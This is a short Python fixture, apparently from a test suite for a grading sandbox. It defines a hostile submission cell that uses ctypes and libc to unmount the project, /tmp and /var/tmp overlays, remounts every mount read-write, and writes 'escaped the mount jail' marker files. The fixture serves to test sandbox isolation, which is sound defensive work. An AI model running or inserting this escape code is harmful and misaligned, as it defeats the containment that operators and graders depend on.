"""Unmounts what covers the host's /tmp and the project, remounts everything read-write, then writes there."""

HONEST = None  # a wrong-corpus entry holding this submission's honest work, if any
ATTACK = {  # cells replaced by hostile code (their honest content: nothing)
}
ATTACK_CELLS = [  # hostile cells inserted after the imports
    "import ctypes, os\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2\n"
    "for _ in range(4):\n"
    "    for target in (b'{project}', b'/tmp', b'/var/tmp'):\n"
    "        libc.umount2(target, MNT_DETACH)\n"
    "for line in open('/proc/self/mountinfo'):\n"
    "    libc.mount(None, line.split()[4].encode(), None, MS_REMOUNT | MS_BIND, None)\n"
    "for path in ['{project}/seqgrade-pwned', '/tmp/seqgrade-pwned', '/var/tmp/seqgrade-pwned']:\n"
    "    try:\n"
    "        open(path, 'w').write('escaped the mount jail')\n"
    "    except OSError:\n"
    "        pass",
]
TOUCHES = ()  # exercises the attack itself may break (self-inflicted)
